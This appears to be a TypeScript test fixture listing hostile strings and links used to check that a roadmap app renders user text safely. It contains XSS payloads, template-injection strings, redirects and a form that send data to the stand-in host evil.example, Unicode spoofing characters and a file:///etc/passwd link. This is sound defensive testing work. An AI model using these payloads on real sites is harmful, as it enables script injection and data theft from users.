// Hostile texts: what a stranger may write into a roadmap to have it run, load, hide or break out of a page.

/** Each sets `pwned` if it runs, or leads to `evil.example`. */
export const hostileTexts: readonly string[] = [
  '<script>pwned=1</script>',
  '</title></style></script><script>pwned=2</script>',
  '<img src=x onerror=pwned=3>',
  '<svg onload=pwned=4><animate onbegin=pwned=4 attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.pwned=5</script>"></iframe>',
  '<body onload=pwned=6>',
  '"><a href="javascript:pwned=7">link</a>',
  "' onmouseover='pwned=8' autofocus onfocus='pwned=8' x='",
  '" onmouseover="pwned=9" autofocus tabindex="1" style="position:fixed;inset:0',
  '[click](javascript:pwned=10)',
  '<% pwned=11 %><%= 7*7 %>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant for other templates
  '{{constructor.constructor("pwned=12")()}}${7*7}#{7*7}',
  '--><script>pwned=13</script><!--',
  ']]><script>pwned=14</script><![CDATA[',
  '</style><style>body{display:none}*{background:url(https://evil.example/a)}</style>',
  '<link rel=stylesheet href=https://evil.example/b><base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/c">',
  '<form action=https://evil.example/d><input name=e autofocus><button>send</button></form>',
  'safe \u202egnp.exe\u202c \u2066hidden\u2069 \u200bthin\u00ad',
  'nul \0 bell \u0007 escape \u001b[2J line \u2028 lone \ud800',
  '&lt;script&gt;pwned=15&lt;/script&gt; &#60;script&#62; &amp;',
  '<noscript><p title="</noscript><img src=x onerror=pwned=16>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwned=17>',
  `${'long'.repeat(200)}`,
];

/** Links that may lead nowhere, and be read as text only. */
export const hostileLinks: readonly string[] = [
  'javascript:pwned=21',
  'JaVaScRiPt:pwned=22',
  ' javascript:pwned=23',
  'java\tscript:pwned=24',
  'data:text/html,<script>pwned=25</script>',
  'vbscript:pwned=26',
  'file:///etc/passwd',
  'blob:https://evil.example/27',
  '//evil.example/28',
  'https://evil.example/"onmouseover="pwned=29',
  "https://evil.example/'><script>pwned=30</script>",
  'https://evil.example/\u202egnp',
];
